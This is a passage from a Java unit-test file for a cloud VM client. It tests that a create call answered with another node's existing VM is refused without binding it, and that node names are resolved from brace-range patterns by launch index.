  void aCreateAnsweredWithAnotherNodesVmIsRefusedAndBindsNothing() {
    VmClient client = client();
    Instance web1 = client.start(Node.builder("web1").build());
    server.runAnswersExisting = List.of(web1.id());
    assertThatThrownBy(() -> client.start(Node.builder("web2").build()))
        .isInstanceOfSatisfying(CloudException.class, e -> {
          assertThat(e.kind()).isEqualTo(Kind.UNKNOWN);
          assertThat(e.getMessage()).contains("web2").contains(web1.id()).contains("refused");
        });
    assertThat(client.record("web2").flatMap(Node::vmId)).isEmpty();
    assertThat(client.record("web2").flatMap(Node::createIntent)).as("the intent stays").isPresent();
    assertThat(server.vms.get(web1.id()).tags).containsEntry(Instance.NODE_TAG, "web1");
    assertThat(client.record("web1").flatMap(Node::vmId)).contains(web1.id());
    Instance web2 = client.start(Node.builder("web2").build());
    assertThat(web2.id()).isNotEqualTo(web1.id());
  }

  @Test
  void instancesLaunchedByEarlierVersionsFindTheirNodeByLaunchIndex() {
    assertThat(NodeNames.at("n{001..100}", 41)).contains("n042");
    assertThat(NodeNames.at("n{098..100}", 2)).contains("n100");
    assertThat(NodeNames.at("web{1..100}", 41)).contains("web42");
    assertThat(NodeNames.at("web{1..3}", 3)).isEmpty();
    assertThat(NodeNames.at("db,cache,queue", 1)).contains("cache");
  }
}
